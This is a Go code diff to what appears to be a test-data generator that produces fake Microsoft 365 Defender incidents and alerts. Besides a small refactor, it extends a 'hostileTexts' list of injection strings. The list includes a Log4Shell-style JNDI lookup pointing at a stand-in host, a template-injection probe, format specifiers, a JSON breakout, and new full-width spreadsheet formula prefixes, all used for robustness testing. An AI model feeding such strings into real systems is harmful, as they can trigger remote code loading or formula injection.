@@ -65,7 +65,7 @@ func (tl *tale) big(id int64, n int) *Incident {
 	}
 	in := &Incident{
 		ID: id, Name: fmt.Sprintf("%s in %d alerts", s.story.title, n), Description: s.story.description,
-		Status: "active", Classification: "unknown", Determination: "unknown", LastModifiedBy: "Microsoft 365 Defender-IncidentCreation",
+		Status: "active", Classification: "unknown", Determination: "unknown", LastModifiedBy: byCreation,
 		Alerts: make([]*Alert, 0, n),
 	}
 	salt, every := s.salt, 3*24*time.Hour/time.Duration(n)
@@ -77,9 +77,7 @@ func (tl *tale) big(id int64, n int) *Incident {
 		a.IncidentID = id
 		in.Alerts = append(in.Alerts, a)
 		in.LastUpdate = later(in.LastUpdate, a.LastUpdate)
-		if severityRank(a.Severity) > severityRank(in.Severity) {
-			in.Severity = a.Severity
-		}
+		in.raise(a)
 	}
 	in.Created = in.Alerts[0].Created.Add(s.d.span(2*time.Second, 90*time.Second))
 	in.LastUpdate = later(in.LastUpdate, in.Created)
@@ -126,6 +124,10 @@ var hostileTexts = [...]string{
 	"${jndi:ldap://phish.example/a} {{7*7}} %%s%%n %s",              // templates and formats
 	"\"%s\", \"id\": \"0\", \"",                                     // JSON in JSON
 	"%s \U0001f3f4\u200d\u2620\ufe0f Z\u0351\u036b\u0343a\u0328lgo", // clusters of many code points
+	"＝1+1 %s",      // full-width, which some spreadsheets read as =
+	"＋1+1 %s",      //
+	"－2+3 %s",      //
+	"＠SUM(1+1) %s", //
 }
 
 func hostileText(harmless string, i int) string {
